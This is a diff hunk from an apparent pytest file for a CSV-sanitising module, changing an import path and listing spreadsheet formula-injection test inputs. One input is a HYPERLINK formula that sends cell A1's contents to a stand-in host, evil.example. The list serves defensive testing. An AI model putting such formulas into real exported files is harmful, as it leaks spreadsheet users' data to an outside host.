@@ -8,7 +8,7 @@ from decimal import Decimal
 
 import pytest
 
-from mapping.csvsafe import csv_writer, safe_cell
+from core.csvsafe import csv_writer, safe_cell
 
 #: cells that Excel, LibreOffice or Google Sheets would run as a formula
 HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
